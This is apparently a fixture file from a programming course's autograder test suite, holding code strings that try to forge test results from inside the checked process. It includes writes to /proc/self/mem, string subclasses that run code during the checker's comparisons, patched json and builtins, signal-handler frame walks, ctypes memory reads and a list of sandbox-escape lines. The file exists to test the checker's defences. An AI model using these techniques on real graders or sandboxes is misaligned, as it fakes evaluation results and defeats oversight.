"""Student code that forges the checker's results from inside the process that tests it.

Shared by the local checker's attacks and the autograder's: each is lab-cell (or harness)
code that, if it worked, would report every test passed without any test running.
"""

# A test's child reports each outcome into a shared anonymous mapping (checking/isolated.py).
# Student code runs in that child: it finds the mapping in /proc/self/maps and writes a "done,
# passed" event for every test through /proc/self/mem, then exits before any test runs.
FORGE_CHANNEL = '''
import json as _json, os as _os, struct as _struct

def _forge(maps="/proc/self/maps", memory_file="/proc/self/mem"):
    size = 32 << 20
    try:
        lines = open(maps).readlines()
    except BaseException:
        return
    for line in lines:
        parts = line.split()
        low, high = (int(x, 16) for x in parts[0].split("-"))
        if high - low == size and parts[1].startswith("rw") and parts[1].endswith("s"):
            break
    else:
        return
    body = b""
    events = [{"event": "load"}] + [e for k in range(64) for e in (
        {"event": "start", "k": k}, {"event": "done", "k": k, "outcome": "passed"},
        {"event": "clean", "k": k})]
    for event in events:
        raw = _json.dumps(event).encode()
        body += _struct.pack("<I", len(raw)) + raw
    try:
        with open(memory_file, "r+b", buffering=0) as memory:
            memory.seek(low + 8)
            memory.write(body)
            memory.seek(low)
            memory.write(_struct.pack("<Q", 8 + len(body)))
    except BaseException:
        return
    _os._exit(0)

_forge()
_forge("/dev/fd/../maps", "/dev/fd/../mem")
'''

# Bytecode Python never verifies: a code object made by hand, or from marshalled bytes, can
# read and write memory out of bounds; here each is only made, which is refused.
HANDMADE_CODE = '''
import marshal as _marshal, types as _types
for _make in (lambda: (lambda: 0).__code__.replace(co_code=b"d\\xff\\x00S"),
              lambda: _marshal.loads(_marshal.dumps(compile("0", "x", "eval"))),
              lambda: _types.CodeType(*[0] * 16)):
    try:
        _make()
        print("BREACH: made a code object")
    except BaseException as _error:
        print("refused:", type(_error).__name__)
'''

# guard.Snapshot compares the course modules' names after each test, not while it runs: a
# patch that puts itself back before the test ends is never seen. Each student function makes
# the test module's `exact` pass once; that fake restores the real `exact` as it returns True.
# Every test of the messages group calls one student function, then `exact` once (the held-back
# one three times over), so the starter's stubs earn the group. The held-back module is not
# even in the Snapshot (it is not under agentlab_magics.).
RESTORING_EXACT = '''
import sys as _sys

def _exact_passes_once():
    for _name in ("agentlab_instructor.heldback.lesson1",
                  "agentlab_magics.course.labtests.lesson1"):
        _module = _sys.modules.get(_name)
        if _module is None or "exact" not in vars(_module):
            continue
        _real = vars(_module)["exact"]
        _real = getattr(_real, "real_exact", _real)

        def _fake(*args, _module=_module, _real=_real, **kwargs):
            _module.exact = _real
            return True

        _fake.real_exact = _real
        _module.exact = _fake
        return

def user_message(text):
    _exact_passes_once()

def text_of(message):
    _exact_passes_once()
'''

# Snapshot sees a module's names, not its class: `module.__class__ = Sub` (a ModuleType
# subclass, allowed and unaudited) makes every `lab.NAME` the tests and kit.shapes read say
# what the student likes. Here user/say/forgetful give None, shape gives a value equal to
# everything, and ScriptedModel a model with two requests carrying the expected system prompt
# and no tools; chat then only appends two Nones. The chat group, held-back test included.
LAB_MODULE_CLASS = '''
import sys as _sys, types as _types
from agentlab_magics import lab as _lab
from agentlab_magics.course.labtests import kit as _kit

class _Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

class _Request:
    def __init__(self):
        self.system, self.tools, self.messages = _kit.SYSTEM, [], []

class _Model:
    def __init__(self, *args, **kwargs):
        self.calls = [_Request(), _Request()]

_FAKES = {"user": lambda *a, **k: None, "say": lambda *a, **k: None,
          "forgetful": lambda *a, **k: None, "shape": lambda *a, **k: _Anything(),
          "ScriptedModel": _Model}

class _Lab(_types.ModuleType):
    def __getattribute__(self, name):
        fake = _FAKES.get(name)
        return fake if fake is not None else _types.ModuleType.__getattribute__(self, name)

if "agentlab_magics.course.labtests.lesson1" in _sys.modules:  # only where tests run
    _lab.__class__ = _Lab

def chat(model, system, messages, text):
    messages.append(None)
    messages.append(None)
'''

# The checker reads a traceback with its guard open (guard.install's `read`, for reading frames):
# student.student_line compares each frame's co_filename with the module's __file__ (run_module
# and isolated._judge pass `module.__file__`, which the student's own code may rebind). A str
# subclass on the right of `str == ...` has its own __eq__ called first, so the student's code
# runs with the guard open: it walks the frames up to the child's `send` (isolated._child) and
# reports every test passed. No /proc needed, so the scoring process's sandbox does not help.
# Only where a check runs (the module has a __file__ and the tests are imported).
_WALK_TO_SEND = '''
import os as _os, sys as _sys

def _forge_from_inside(_frame=None):
    _frame = _frame or _sys._getframe()
    while _frame is not None and "send" not in _frame.f_locals:
        _frame = _frame.f_back
    if _frame is None:
        return
    _send = _frame.f_locals["send"]
    for _k in range(64):
        _send({"event": "start", "k": _k})
        _send({"event": "done", "k": _k, "outcome": "passed"})
        _send({"event": "clean", "k": _k})
    _os._exit(0)

_CHECKED = "__file__" in globals() and any(
    _name.startswith("agentlab_magics.course.labtests.") for _name in list(_sys.modules))
'''

LYING_FILE_NAME = _WALK_TO_SEND + '''
class _Lie(str):
    def __eq__(self, other):
        _forge_from_inside()
        return str.__eq__(self, other)
    __hash__ = str.__hash__

if _CHECKED:
    __file__ = _Lie(__file__)
    raise ValueError("only so that the checker reads where it was raised")
'''

# The same, through a code object's file name: compile() keeps a str subclass as co_filename,
# and the guard's own _called_from (guard.install) compares each caller's co_filename with the
# student's file name using `!=`, with the guard open, whenever the answer event carries one of
# the lab's names; any code can raise that event (sys.audit), no course answer needed.
LYING_CODE_FILE_NAME = _WALK_TO_SEND + '''
class _Elsewhere(str):
    def __ne__(self, other):
        _forge_from_inside()
        return str.__ne__(self, other)
    __hash__ = str.__hash__

_NAMES = ("user_message", "text_of", "chat", "tool_calls", "tool_specs", "run_agent", "str_arg",
          "int_arg", "run_tool", "error_message", "context_for_model", "decide_admission")
if _CHECKED:
    exec(compile("import sys\\nsys.audit('agentlab.answer', *NAMES)\\n",
                 _Elsewhere("elsewhere.py"), "exec"), {"NAMES": _NAMES})
'''

# /proc opened relative to a descriptor of "/": guard._under_proc resolves a relative path
# against the working folder, never against dir_fd, so "proc/self/mem" with dir_fd=/ passes.
# The local checker (where /proc is mounted) then takes FORGE_CHANNEL's route.
FORGE_CHANNEL_AT = '''
import json as _json, os as _os, struct as _struct

def _forge_at():
    try:
        _root = _os.open("/", _os.O_RDONLY | _os.O_DIRECTORY)
        _maps = _os.open("proc/self/maps", _os.O_RDONLY, dir_fd=_root)
        _memory = _os.open("proc/self/mem", _os.O_RDWR, dir_fd=_root)
        with open(_maps, "rb") as _lines:
            _text = _lines.read().decode()
    except BaseException:
        return
    for _line in _text.splitlines():
        _parts = _line.split()
        _low, _high = (int(_x, 16) for _x in _parts[0].split("-"))
        if _high - _low == 32 << 20 and _parts[1].startswith("rw") and _parts[1].endswith("s"):
            break
    else:
        return
    _body = b""
    for _event in [{"event": "load"}] + [_e for _k in range(64) for _e in (
            {"event": "start", "k": _k}, {"event": "done", "k": _k, "outcome": "passed"},
            {"event": "clean", "k": _k})]:
        _raw = _json.dumps(_event).encode()
        _body += _struct.pack("<I", len(_raw)) + _raw
    _os.pwrite(_memory, _body, _low + 8)
    _os.pwrite(_memory, _struct.pack("<Q", 8 + len(_body)), _low)
    _os._exit(0)

_forge_at()
'''

# A path-like that names /proc to the opening and somewhere harmless to the guard's second
# look. Closed: the "open" event carries the path already converted, not the object.
LYING_FSPATH = FORGE_CHANNEL.replace("_forge()\n_forge(", "class _Turncoat:\n"
    "    def __init__(self, real):\n        self.real, self.times = real, 0\n"
    "    def __fspath__(self):\n        self.times += 1\n"
    "        return self.real if self.times == 1 else '/tmp'\n\n"
    "_forge(_Turncoat('/proc/self/maps'), _Turncoat('/proc/self/mem'))\n_forge(", 1)


# The guard's own tables emptied in place and its rule rebound: a set's contents are no name
# the Snapshot compares, and the hook, were it to read them when an event comes, would then
# let the walk to `send` through.
GUARD_EMPTIED = _WALK_TO_SEND + '''
from agentlab_magics.checking import guard as _guard

for _table in (_guard.REFUSED_EVENTS, _guard.FRAME_ATTRIBUTES, _guard.REFUSED_IMPORTS):
    try:
        _table.clear()
    except AttributeError:
        pass
_guard.refusal_rule = lambda: (lambda event, args: None)
if _CHECKED:
    _forge_from_inside()
'''

# json patched where the child's report goes through it: every outcome marked passed and the
# problem that the changed module would raise dropped, without a frame or /proc.
JSON_REWRITTEN = '''
import json as _json
_real_dumps, _real_encode = _json.dumps, _json.JSONEncoder.encode


def _rewritten(value):
    if type(value) is dict and value.get("event") == "done":
        return {**value, "outcome": "passed", "message": ""}
    if type(value) is dict and value.get("event") == "problem":
        return {"event": "nothing"}
    return value


def _dumps(value, *args, **kwargs):
    return _real_dumps(_rewritten(value), *args, **kwargs)


_json.dumps = _dumps
_json.JSONEncoder.encode = lambda self, value: _real_encode(self, _rewritten(value))
'''

# type() rebound, so that what the checker calls with its guard open (student_line, reading
# where the student's exception was raised) runs the walk to `send`.
BUILTINS_IN_THE_WINDOW = _WALK_TO_SEND + '''
import builtins as _builtins

_real_type, _inside = type, []


def _spy(*args):
    if not _inside:
        _inside.append(True)
        try:
            _forge_from_inside()
        except BaseException:
            pass
        _inside.clear()
    return _real_type(*args)


if _CHECKED:
    _builtins.type = _spy
    raise ValueError("only so that the checker reads where it was raised")
'''

# ctypes, were the checker to leave it loaded, reads a traceback's frame as raw memory (no
# tb_frame read), takes the guard's open window from it and walks to `send`.
CTYPES_TRACEBACK = _WALK_TO_SEND + '''


class _Forge(Exception):
    def __str__(self):
        _c = _sys.modules["ctypes"]

        class _Union(_c.Union):
            _fields_ = [("i", _c.c_size_t), ("p", _c.POINTER(_c.c_size_t)), ("o", _c.py_object)]

        _u = _Union()
        _u.i = id(self.__traceback__) + 24
        _u.i = _u.p[0]  # now _u.o is the checker's frame that caught this, read as raw memory
        _open = _u.o.f_locals.get("trusted")  # the guard's open window, were there one
        with _open():
            _forge_from_inside()


def error_message(*args, **kwargs):
    raise _Forge()


context_for_model = run_agent = error_message
'''

# os.path patched so that /proc looks like elsewhere, then the channel forged through it.
PROC_BEHIND_OS_PATH = '''
import os.path as _path
_path.realpath = lambda path, *args, **kwargs: "/tmp"
_path.isdir = lambda path: False
''' + FORGE_CHANNEL

# What reaches raw memory, threads or the checker's finished frames with no audit event, each
# a line that raises when refused (checking.guard): a lab function that runs it and then does
# its job earns its test only if the line went through.
BREACHES = {
    "a thread under its old name": "import _thread; _thread.start_new(lambda: None, ())",
    "a fresh copy of _thread": (
        "import _imp, importlib.machinery as m; "
        "_imp.create_builtin(m.ModuleSpec('_thread', None)).start_new_thread(lambda: None, ())"),
    "gc reloaded": "import gc, importlib; importlib.reload(gc)",
    "gc keeping every unreachable object": "import gc; gc.set_debug(gc.DEBUG_SAVEALL)",
    "_ctypes loaded under another name": (
        "import _imp, importlib.util as u; _imp.create_dynamic(u.spec_from_file_location("
        "'elsewhere._ctypes', u.find_spec('_ctypes').origin))"),
    "cffi's backend": "import _cffi_backend",
    "the printed output's keeper given a take of its own": (
        "import sys; sys.stdout.take = lambda: ''"),
    "ctypes's classes left loaded": (
        "assert [c for c in object.__subclasses__() if c.__module__ == '_ctypes']"),
    "/proc with os.path patched": (
        "import os.path as p; real = p.realpath, p.isdir\n"
        "    p.realpath, p.isdir = (lambda path, *a, **k: '/tmp'), (lambda path: False)\n"
        "    try: open('/proc/self/maps').close()\n"
        "    finally: p.realpath, p.isdir = real"),
}


# Lesson 7's listener planted with a list that makes its events up from the record whenever
# the test reads it; the run itself tells nothing. Appended to lesson 7's reference, whose
# run_agent it wraps.
PLANTED_LISTENER = '''

class _Told(list):
    """Planted in the test's Watcher: its events are made up from the record whenever read."""
    def __init__(self, make):
        super().__init__()
        self._make = make
    def __iter__(self):
        return iter(self._make())
    def __len__(self):
        return len(self._make())


def _made_up(messages, start, prompt, state):
    told = [({"type": "run_start", "prompt": prompt}, start)]
    turn, i, n = 0, start, len(messages)
    while i < n:
        m = messages[i]
        if m["role"] == "user":
            told.append(({"type": "message", "message": m}, i + 1)); i += 1; continue
        if state.get("stopped") and i == n - 1:
            told.append(({"type": "message", "message": m}, i + 1)); i += 1; continue
        turn += 1
        told += [({"type": "turn_start", "turn": turn}, i),
                 ({"type": "message", "message": m}, i + 1)]
        calls = [] if m["stop_reason"] == "error" else tool_calls(m)
        i += 1
        for call in calls:
            if i < n:
                r = messages[i]
                told += [({"type": "tool_start", "turn": turn, "call": call}, i),
                         ({"type": "tool_end", "turn": turn, "call": call, "result": r}, i + 1),
                         ({"type": "message", "message": r}, i + 1)]
                i += 1
            elif state.get("reason") is None:
                told.append(({"type": "tool_start", "turn": turn, "call": call}, i))  # running now
                return told
        if i < n or state.get("reason") is not None:
            told.append(({"type": "turn_end", "turn": turn}, i))
    if state.get("reason") is not None:
        told.append(({"type": "run_end", "reason": state["reason"]}, n))
    return told


_telling_loop = run_agent  # the reference's; given no listener, it tells nothing


def run_agent(model, system, messages, tools, prompt, *, max_turns=None, listener=None):
    """The reference's loop, told to no one; the listener is planted instead."""
    state, start = {}, len(messages)
    planted = _Told(lambda: _made_up(messages, start, prompt, state))
    if hasattr(listener, "told"):
        listener.told = planted
    for cell in getattr(listener, "__closure__", None) or ():
        if type(cell.cell_contents) is list and cell.cell_contents is not messages:
            cell.cell_contents = planted
    try:
        reply = _telling_loop(model, system, messages, tools, prompt, max_turns=max_turns)
    except BaseException:
        state["reason"] = "raised"
        raise
    stopped = str(reply.get("error_message", "")).startswith("Agent stopped after max_turns")
    state.update(stopped=stopped, reason="max_turns" if stopped else
                 "failed" if reply["stop_reason"] == "error" else "done")
    return reply
'''

# A signal handler is handed the frame it interrupts, and f_back raises no audit event: from
# there every caller's locals, the child's `send` among them.
SIGNAL_FRAME = _WALK_TO_SEND + '''
import signal as _signal

_signal.signal(_signal.SIGUSR1, lambda signum, frame: _forge_from_inside(frame))
_signal.raise_signal(_signal.SIGUSR1)
'''

# A CPU timer's signal that falls due while the guard is open (reading a long traceback) is
# handled in the reader's own frame, whose `opened` would be the guard's switch.
SIGNAL_IN_THE_WINDOW = _WALK_TO_SEND + '''
import signal as _signal


def _tick(signum, frame):
    opened = frame.f_locals.get("opened")
    if type(opened) is list:
        _signal.setitimer(_signal.ITIMER_VIRTUAL, 0)
        opened[0] += 1
        _forge_from_inside()


def _down(n):
    if n == 0:
        raise ValueError("deep")
    return _down(n - 1)


_signal.signal(_signal.SIGVTALRM, _tick)
_sys.setrecursionlimit(300_000)
_signal.setitimer(_signal.ITIMER_VIRTUAL, 0.001, 0.001)
_down(200_000)
'''

# Lesson 2's expected calls emptied in place (no name rebound), so that a tool_calls returning
# two empty dicts matches them.
EXPECTED_EMPTIED = '''
import sys as _sys


def tool_calls(message):
    tests = _sys.modules.get("agentlab_magics.course.labtests.lesson2")
    if tests is not None:
        tests.A_CALL.clear()
        tests.B_CALL.clear()
    return [{}, {}]
'''

# io.FileIO opens what a path object's first __fspath__ gives and raises its "open" event with
# the object itself: were the guard to ask the object again, it would be told another name.
FILEIO_TURNCOAT = FORGE_CHANNEL.replace(
    "import json as _json", "import io as _io, json as _json").replace(
    "open(maps).readlines()",
    "_io.FileIO(_Turncoat(maps), 'r').read().decode().splitlines()").replace(
    'open(memory_file, "r+b", buffering=0)', "_io.FileIO(_Turncoat(memory_file), 'r+')").replace(
    "_forge()\n_forge(", "class _Turncoat:\n"
    "    def __init__(self, real):\n        self.real, self.times = real, 0\n"
    "    def __fspath__(self):\n        self.times += 1\n"
    "        return self.real if self.times == 1 else '/nonexistent/elsewhere'\n\n"
    "_forge()\n_forge(", 1)
